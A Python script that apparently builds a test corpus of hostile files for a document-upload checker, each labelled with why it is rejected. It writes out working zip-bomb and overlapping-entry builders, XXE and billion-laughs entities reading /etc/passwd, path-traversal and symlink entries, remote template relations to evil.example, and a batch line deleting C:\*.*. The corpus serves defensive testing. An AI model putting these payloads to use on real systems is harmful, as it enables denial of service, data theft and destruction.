"""Archives, openly and under other names, and Office files that are made as bombs or hold what they must not."""

import bz2
import gzip
import io
import lzma
import struct
import subprocess
import tempfile
import zipfile
import zlib
from pathlib import Path

import pyzipper

from ole import compound, streams_of
from pages import PASSWORD
from passwords import visual_basic
from pdfs import with_attachment, with_stream

MEBIBYTE = 1024 * 1024
OURS = "written by ourselves"
PYTHON = "Python's zipfile"


def make(corpus):
    """Adds the archives and the bombs."""
    plain(corpus)
    spoilt_letters(corpus)
    macros(corpus)
    reaching_out(corpus)
    holding(corpus)
    bombs(corpus)


def plain(corpus):
    """Archives under their own names and under others."""
    files = {"report.pdf": corpus.read("report.pdf"), "note.txt": b"Please see the report."}
    zipped = archive(files)
    openly = {
        "files.zip": ("Info-ZIP's format by Python", zipped),
        "files.gz": ("Python's gzip", gzip.compress(files["report.pdf"], mtime=0)),
        "files.bz2": ("Python's bz2", bz2.compress(files["report.pdf"])),
        "files.xz": ("Python's lzma", lzma.compress(files["report.pdf"])),
        "files.rar": (OURS, rar()),
        "files.cab": (OURS, b"MSCF\0\0\0\0" + bytes(100)),
        "protected.zip": ("pyzipper", protected(files)),
    }
    for name, form in {"files.7z": "7zip", "files.tar": "ustar", "files.xar": "xar", "files.a": "ar"}.items():
        openly[name] = ("bsdtar", by_libarchive(files, form))
    openly["files.tar.gz"] = ("bsdtar", by_libarchive(files, "ustar", "--gzip"))
    for name, (producer, content) in openly.items():
        corpus.hostile(name, "COMPRESSED", producer, content)
    for extension in ("docx", "xlsx", "pptx", "doc", "pdf", "jpg", "txt", "csv", "eml", "mp4"):
        corpus.hostile(f"zip.{extension}", "COMPRESSED", PYTHON, zipped)
    corpus.hostile("7z.pdf", "COMPRESSED", "bsdtar", openly["files.7z"][1])
    corpus.hostile("gzip.csv", "COMPRESSED", "Python's gzip", openly["files.gz"][1])
    corpus.hostile("rar.docx", "COMPRESSED", OURS, openly["files.rar"][1])
    corpus.hostile("empty.zip", "COMPRESSED", PYTHON, archive({}))
    corpus.hostile("protected-parts.docx", "PASSWORD_PROTECTED", "pyzipper", protected(parts_of(corpus.read("letter.docx"))))


def archive(parts, method=zipfile.ZIP_DEFLATED) -> bytes:
    """A ZIP archive of parts."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        for name, content in parts.items() if isinstance(parts, dict) else parts:
            file.writestr(zipfile.ZipInfo(name) if isinstance(name, str) else name, content, method)
    return buffer.getvalue()


def parts_of(content) -> dict[str, bytes]:
    """The parts of an Office file."""
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        return {name: file.read(name) for name in file.namelist()}


def protected(parts) -> bytes:
    """The parts, each encrypted."""
    buffer = io.BytesIO()
    with pyzipper.AESZipFile(buffer, "w", zipfile.ZIP_DEFLATED, encryption=pyzipper.WZ_AES) as file:
        file.setpassword(PASSWORD.encode())
        for name, content in parts.items():
            file.writestr(name, content)
    return buffer.getvalue()


def by_libarchive(files, form, *more) -> bytes:
    """An archive of another kind."""
    with tempfile.TemporaryDirectory() as folder:
        for name, content in files.items():
            (Path(folder) / name).write_bytes(content)
        command = ["bsdtar", "--format", form, *more, "-cf", "-", *files]
        return subprocess.run(command, cwd=folder, check=True, capture_output=True).stdout


def rar() -> bytes:
    """The mark and the main header of RAR's fifth version: nothing free makes more of it."""
    header = bytes([3, 1, 0, 0])
    return b"Rar!\x1a\x07\x01\x00" + struct.pack("<I", zlib.crc32(header)) + header + bytes(200)


def spoilt_letters(corpus):
    """Office files that are not whole, or not honest about their parts."""
    letter = corpus.read("letter.docx")
    parts = parts_of(letter)
    corpus.hostile("cut-off.docx", "UNREADABLE", "python-docx, cut off", letter[: len(letter) // 2])
    corpus.hostile("cut-off.xlsx", "UNREADABLE", "openpyxl, cut off", corpus.read("repairs.xlsx")[:-100])
    flipped = bytearray(corpus.read("stored.docx"))
    flipped[flipped.index(b"mend the roof")] ^= 1
    corpus.hostile("wrong-checksum.docx", "UNREADABLE", "python-docx, spoilt", bytes(flipped))
    no_main = {name: content for name, content in parts.items() if name != "word/document.xml"}
    corpus.hostile("no-main-part.docx", "UNREADABLE", PYTHON, archive(no_main))

    bad_names = {
        "upwards.docx": "../../etc/passwd",
        "upwards-windows.docx": "word\\..\\..\\evil.xml",
        "absolute.docx": "/etc/passwd",
        "drive.docx": "C:/Windows/evil.xml",
        "twice.docx": "word/document.xml",
        "twice-in-capitals.docx": "WORD/DOCUMENT.XML",
    }
    for name, part in bad_names.items():
        corpus.hostile(name, "NOT_ITS_TYPE", PYTHON, archive([*parts.items(), (part, b"<evil/>")]))
    link = zipfile.ZipInfo("word/link.xml")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    corpus.hostile("link.docx", "NOT_ITS_TYPE", PYTHON, archive([*parts.items(), (link, b"/etc/passwd")]))

    corpus.hostile("junk-before.docx", "NOT_ITS_TYPE", "python-docx, spoilt", letter_behind(b"junk" * 10, letter))
    corpus.hostile("junk-behind.docx", "NOT_ITS_TYPE", "python-docx, spoilt", letter + b"junk" * 10)
    comment = letter[:-2] + struct.pack("<H", 4) + b"note"
    corpus.hostile("comment.docx", "NOT_ITS_TYPE", "python-docx, spoilt", comment)
    end = b"PK\x05\x06" + bytes(18)
    corpus.hostile("end-in-comment.docx", "NOT_ITS_TYPE", "python-docx, spoilt", letter[:-2] + struct.pack("<H", 22) + end)
    hidden = letter[: letter.rindex(b"PK\x05\x06")]
    corpus.hostile("gap.docx", "NOT_ITS_TYPE", PYTHON, _with_gap(letter))
    corpus.hostile("no-end.docx", "UNREADABLE", "python-docx, cut off", hidden)


def letter_behind(junk, letter) -> bytes:
    """The letter behind junk that is itself the beginning of a part, so that the file still begins as an archive."""
    lead = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, zlib.crc32(junk), len(junk), len(junk), 4, 0)
    moved = bytearray(letter)
    lead += b"lead" + junk
    at = letter.rindex(b"PK\x05\x06")
    (count, directory) = struct.unpack_from("<H", letter, at + 10)[0], struct.unpack_from("<I", letter, at + 16)[0]
    struct.pack_into("<I", moved, at + 16, directory + len(lead))
    place = directory
    for _ in range(count):
        struct.pack_into("<I", moved, place + 42, struct.unpack_from("<I", letter, place + 42)[0] + len(lead))
        place += 46 + sum(struct.unpack_from("<3H", letter, place + 28))
    return lead + bytes(moved)


def _with_gap(letter) -> bytes:
    at = letter.rindex(b"PK\x05\x06")
    (directory,) = struct.unpack_from("<I", letter, at + 16)
    gap = b"hidden between the parts and their directory"
    moved = bytearray(letter[:directory] + gap + letter[directory:])
    struct.pack_into("<I", moved, at + len(gap) + 16, directory + len(gap))
    return bytes(moved)


def macros(corpus):
    """Office files with macros, openly and under other names."""
    project = compound(visual_basic())
    for kind, source, part in (("doc", "letter.docx", "word"), ("xls", "repairs.xlsx", "xl"), ("ppt", "slides.pptx", "ppt")):
        parts = parts_of(corpus.read(source))
        types = parts["[Content_Types].xml"].decode()
        plain = next(it.split('"')[0] for it in types.split('ContentType="') if it.split('"')[0].endswith(".main+xml"))
        word = {"doc": "word.document", "xls": "excel.sheet", "ppt": "powerpoint.presentation"}[kind]
        enabled = types.replace(plain, f"application/vnd.ms-{word}.macroEnabled.main+xml")
        enabled = enabled.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
        content = archive(parts | {"[Content_Types].xml": enabled.encode(), f"{part}/vbaProject.bin": project})
        corpus.hostile(f"macros.{kind}m", "MACROS", "macros added by ourselves", content)
        corpus.hostile(f"macros.{kind}x", "MACROS", "macros added by ourselves", content)
    parts = parts_of(corpus.read("letter.docx"))
    unnamed = archive(parts | {"word/settings.bin": project})
    corpus.hostile("macros-unnamed.docx", "MACROS", "macros added by ourselves", unnamed)
    types = parts["[Content_Types].xml"].replace(b"wordprocessingml.document.main+xml", b"wordprocessingml.template.main+xml")
    corpus.hostile("template.dotx", "TYPE_NOT_ACCEPTED", PYTHON, archive(parts | {"[Content_Types].xml": types}))
    parts = parts_of(corpus.read("repairs.xlsx"))
    sheet = b'<Override PartName="/xl/macrosheets/sheet9.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/></Types>'
    types = parts["[Content_Types].xml"].replace(b"</Types>", sheet)
    content = archive(parts | {"[Content_Types].xml": types, "xl/macrosheets/sheet9.xml": b"<xm:macrosheet/>"})
    corpus.hostile("macros-excel-4.xlsx", "MACROS", PYTHON, content)


RELATION = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}" TargetMode="External"/></Relationships>'
)
LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + ']>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&a9;</w:document>'
)
OUTSIDE = '<!DOCTYPE w [<!ENTITY x SYSTEM "{}">]><w:document xmlns:w="w">&x;</w:document>'


def reaching_out(corpus):
    """Office files that fetch something when they are opened, or whose XML has a document type."""
    parts = parts_of(corpus.read("letter.docx"))
    with_part = lambda name, text, coding="utf-8": archive(parts | {name: text.encode(coding)})
    settings = "word/_rels/settings.xml.rels"
    for name, kind, target in [
        ("template-from-web.docx", "attachedTemplate", "https://evil.example/letter.dotm"),
        ("template-from-web-capitals.docx", "attachedTemplate", "HTTP&#58;//evil.example/letter.dotm"),
        ("object-from-web.docx", "oleObject", "mhtml:https://evil.example/x.html!x-usc:https://evil.example/x.html"),
        ("frame-from-web.docx", "frame", "https://evil.example/frame.html"),
    ]:
        corpus.hostile(name, "MACROS", PYTHON, with_part(settings, RELATION.format(kind, target)))
    docx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
    local = with_part(settings, RELATION.format("attachedTemplate", "file:///C:\\Templates\\Letter.dotx"))
    corpus.ordinary("template-of-the-office.docx", docx, PYTHON, local)
    picture = with_part("word/_rels/header9.xml.rels", RELATION.format("image", "https://www.example.com/logo.png"))
    corpus.ordinary("logo-from-web.docx", docx, PYTHON, picture)

    main = "word/document.xml"
    corpus.hostile("laughs.docx", "UNREADABLE", OURS, with_part(main, LAUGHS))
    corpus.hostile("laughs-utf-16.docx", "UNREADABLE", OURS, with_part(main, LAUGHS, "utf-16"))
    corpus.hostile("file-entity.docx", "UNREADABLE", OURS, with_part(main, OUTSIDE.format("file:///etc/passwd")))
    corpus.hostile("web-entity.docx", "UNREADABLE", OURS, with_part(main, OUTSIDE.format("http://127.0.0.1:9/x")))
    late = "<!-- " + "x" * 10_000 + " -->" + OUTSIDE.format("file:///etc/passwd")
    corpus.hostile("late-entity.docx", "UNREADABLE", OURS, with_part(main, late))
    corpus.hostile("types-entity.docx", "UNREADABLE", OURS,
                   with_part("[Content_Types].xml", '<!DOCTYPE x [<!ENTITY a "b">]>' + parts["[Content_Types].xml"].decode()))
    drawing = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "svg11.dtd"><svg xmlns="http://www.w3.org/2000/svg"/>'
    types = parts["[Content_Types].xml"].replace(b"</Types>", b'<Default Extension="svg" ContentType="image/svg+xml"/></Types>')
    content = archive(parts | {"[Content_Types].xml": types, "word/media/plan.svg": drawing.encode()})
    corpus.ordinary("drawing.docx", docx, PYTHON, content)


def packed_object(name, content) -> bytes:
    """An object that was packed from a file, as dragging one into a document does."""
    body = struct.pack("<H", 2) + name.encode() + b"\0C:\\" + name.encode() + b"\0" + struct.pack("<HHI", 0, 3, 4) + b"tmp\0"
    body += struct.pack("<I", len(content)) + content
    return compound({"\x01Ole10Native": struct.pack("<I", len(body)) + body})


def holding(corpus):
    """Office files that hold a file that would not be taken by itself."""
    parts = parts_of(corpus.read("letter.docx"))
    read = lambda name: (corpus.folder / "hostile" / name).read_bytes()
    program = b"MZ" + bytes(58) + struct.pack("<I", 0x80) + bytes(64) + b"PE\0\0" + bytes(200)
    shell = b"@echo off\r\ndel C:\\*.*\r\n"
    for name, reason, inside, content in [
        ("holds-zip.docx", "COMPRESSED", "x.zip", archive({"a.txt": b"a"})),
        ("holds-7z.docx", "COMPRESSED", "x.bin", read("files.7z")),
        ("holds-program.docx", "PROGRAM", "x.bin", program),
        ("holds-packed-program.docx", "PROGRAM", "oleObject1.bin", packed_object("x.exe", program)),
        ("holds-packed-script.docx", "PROGRAM", "oleObject1.bin", packed_object("x.bat", shell)),
        ("holds-packed-zip.docx", "COMPRESSED", "oleObject1.bin", packed_object("x.dat", archive({"a.txt": b"a"}))),
        ("holds-protected.docx", "PASSWORD_PROTECTED", "x.docx", read("agile-letter.docx")),
        ("holds-protected-old.docx", "PASSWORD_PROTECTED", "x.xls", read("rc4.xls")),
        ("holds-macros.docx", "MACROS", "x.docm", read("macros.docm")),
        ("holds-macros-old.docx", "MACROS", "x.xls", read("macros-excel-4.xls")),
        ("holds-open-document.docx", "OPEN_DOCUMENT", "x.odt", read("letter.odt")),
        ("holds-package-of-zip.docx", "COMPRESSED", "oleObject1.bin", compound({"Package": archive({"a.txt": b"a" * 5000})})),
    ]:
        corpus.hostile(name, reason, PYTHON, archive(parts | {f"word/embeddings/{inside}": content}))
    report = corpus.read("report.pdf")
    for name, reason, content in [
        ("holds-zip.pdf", "COMPRESSED", archive({"a.txt": b"a" * 5000})),
        ("holds-program.pdf", "PROGRAM", program),
        ("holds-macros.pdf", "MACROS", read("macros.docm")),
        ("holds-protected.pdf", "PASSWORD_PROTECTED", read("agile-letter.docx")),
    ]:
        corpus.hostile(name, reason, "pikepdf", with_attachment(report, "attached.bin", content))
    stored = with_stream(program, "/Type/EmbeddedFile")
    corpus.hostile("holds-program-stored.pdf", "PROGRAM", OURS, stored)
    slides = streams_of(corpus.read("slides-libreoffice.ppt"))
    for name, reason, packed in [
        ("holds-program.ppt", "PROGRAM", packed_object("x.exe", program)),
        ("holds-macros.ppt", "MACROS", compound(visual_basic())),
        ("holds-zip.ppt", "COMPRESSED", compound({"Package": archive({"a.txt": b"a" * 5000})})),
    ]:
        content = struct.pack("<I", len(packed)) + zlib.compress(packed)
        record = struct.pack("<HHI", 0x10, 0x1011, len(content)) + content
        more = slides | {"PowerPoint Document": slides["PowerPoint Document"] + record}
        corpus.hostile(name, reason, "LibreOffice, object added by ourselves", compound(more))
    content = corpus.read("letter.docx")
    for _ in range(6):
        content = archive(parts | {"word/embeddings/x.docx": content})
    corpus.hostile("russian-doll.docx", "COMPRESSED", PYTHON, content)
    carried = with_attachment(report, "letter.docx", corpus.read("letter.docx"))
    corpus.ordinary("holds-letter.pdf", "application/pdf", "pikepdf", carried)
    embedded = compound({"Package": corpus.read("repairs.xlsx"), "\x01Ole": bytes(20)})
    content = archive(parts | {"word/embeddings/oleObject1.bin": embedded, "word/embeddings/x.xls": corpus.read("repairs-xlwt.xls")})
    corpus.ordinary("holds-workbooks.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", PYTHON, content)


def bombs(corpus):
    """Archives that swell, and ones whose parts lie."""
    parts = parts_of(corpus.read("letter.docx"))
    corpus.hostile("swells.docx", "UNREADABLE", PYTHON, archive([*parts.items(), ("word/media/x.bin", bytes(300 * MEBIBYTE))]))
    corpus.hostile("swells-a-lot.docx", "UNREADABLE", PYTHON, archive([*parts.items(), ("word/media/x.bin", bytes(150 * MEBIBYTE))]))
    many = [(f"word/x{number}.xml", b"<x/>") for number in range(10_000)]
    corpus.hostile("ten-thousand-parts.docx", "COMPRESSED", PYTHON, archive([*parts.items(), *many]))
    remark = zipfile.ZipInfo("word/x.xml")
    remark.comment = b"x" * 60_000
    long_entries = [*parts.items(), *((_renamed(remark, f"word/x{n}.xml"), b"<x/>") for n in range(300))]
    corpus.hostile("long-directory.docx", "COMPRESSED", PYTHON, archive(long_entries))
    types = parts["[Content_Types].xml"]
    long_element = types.replace(b"</Types>", b'<Default Extension="' + b"x" * 3 * MEBIBYTE + b'" ContentType="x/y"/></Types>')
    corpus.hostile("long-element.docx", "UNREADABLE", PYTHON, archive(parts | {"[Content_Types].xml": long_element}))
    book = streams_of(corpus.read("repairs-xlwt.xls"))
    crowded = compound(book | {f"stream {number}": b"" for number in range(50_000)})
    corpus.hostile("crowded.xls", "UNREADABLE", OURS, crowded)
    corpus.hostile("holds-crowded.docx", "UNREADABLE", OURS, archive(parts | {"word/embeddings/x.xls": crowded}))
    deep = compound(book | {"/".join(f"s{step}" for step in range(900)): b"deep"})
    corpus.ordinary("deep.xls", "application/vnd.ms-excel", OURS, deep)
    wide = compound(book | {f"stream {number}": b"" for number in range(15_000)})
    corpus.ordinary("wide.xls", "application/vnd.ms-excel", OURS, wide)
    swollen = archive([*parts.items(), ("word/media/x.bin", bytes(300 * MEBIBYTE))])
    corpus.hostile("lies-about-size.docx", "UNREADABLE", "Python's zipfile, spoilt", _lying(swollen))
    corpus.hostile("overlap.docx", "NOT_ITS_TYPE", OURS, _overlapping(parts))
    corpus.hostile("quoted-overlap.docx", "NOT_ITS_TYPE", OURS, _quoting(parts))
    corpus.hostile("large-numbers-lie.docx", "UNREADABLE", "Python's zipfile, spoilt", _large_lie(parts))


def _renamed(info, name):
    copy = zipfile.ZipInfo(name)
    copy.comment = info.comment
    return copy


def _lying(content) -> bytes:
    """Says of the last part, in both places, that it unpacks to a hundred bytes."""
    content = bytearray(content)
    entry = content.rindex(b"PK\x01\x02")
    (header,) = struct.unpack_from("<I", content, entry + 42)
    struct.pack_into("<I", content, entry + 24, 100)
    struct.pack_into("<I", content, header + 22, 100)
    return bytes(content)


def _directory(entries) -> bytes:
    """A directory for parts: name, checksum, packed and unpacked size, place; and its end."""
    directory = b""
    for name, checksum, packed, unpacked, place in entries:
        directory += struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 33, checksum, packed, unpacked,
                                 len(name), 0, 0, 0, 0, 0, place) + name.encode()
    return directory


def _local(name, checksum, packed, unpacked, extra=b"") -> bytes:
    header = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 33, checksum, packed, unpacked, len(name), len(extra))
    return header + name.encode() + extra


def _end(count, directory, at) -> bytes:
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(directory), at, 0)


def _packed(content) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(content) + packer.flush()


def _written(parts):
    body, entries = b"", []
    for name, content in parts.items():
        packed, checksum = _packed(content), zlib.crc32(content)
        entries.append((name, checksum, len(packed), len(content), len(body)))
        body += _local(name, checksum, len(packed), len(content)) + packed
    return body, entries


def _overlapping(parts) -> bytes:
    """Many parts that are all the same bytes, in sizes that are not a bomb's yet."""
    body, entries = _written(parts)
    kernel = bytes(10_000)
    packed, place = _packed(kernel), len(body)
    body += _local("word/x0000.xml", zlib.crc32(kernel), len(packed), len(kernel)) + packed
    entries += [(f"word/x{n:04}.xml", zlib.crc32(kernel), len(packed), len(kernel), place) for n in range(150)]
    directory = _directory(entries)
    return body + directory + _end(len(entries), directory, len(body))


def _quoting(parts) -> bytes:
    """Parts that each begin with a stored block in which the next one's header stands, and share all the rest."""
    kernel = bytes(10_000)
    tail, content, chain = _packed(kernel), kernel, []
    for number in reversed(range(50)):
        name = f"word/x{number:02}.xml"
        if chain:
            header = _local(*chain[-1][:4])
            tail = struct.pack("<BHH", 0, len(header), len(header) ^ 0xFFFF) + header + tail
            content = header + content
        chain.append((name, zlib.crc32(content), len(tail), len(content)))
    body, entries = _written(parts)
    block = _local(*chain[-1]) + tail
    for name, checksum, packed, unpacked in reversed(chain):
        place = len(body) + len(block) - packed - len(_local(name, checksum, packed, unpacked))
        entries.append((name, checksum, packed, unpacked, place))
    body += block
    directory = _directory(entries)
    return body + directory + _end(len(entries), directory, len(body))


def _large_lie(parts) -> bytes:
    """A part that says in the large numbers that it unpacks to four exbibytes."""
    body, entries = _written(parts)
    directory = _directory(entries)
    content = b"<x/>"
    name, packed = "word/x.xml", _packed(content)
    extra = struct.pack("<HHQ", 1, 8, 1 << 62)
    entry = struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 45, 45, 0, 8, 0, 33, zlib.crc32(content), len(packed), 0xFFFFFFFF,
                        len(name), len(extra), 0, 0, 0, 0, len(body)) + name.encode() + extra
    body += _local(name, zlib.crc32(content), len(packed), 0xFFFFFFFF, struct.pack("<HHQQ", 1, 16, 1 << 62, len(packed))) + packed
    return body + directory + entry + _end(len(entries) + 1, directory + entry, len(body))
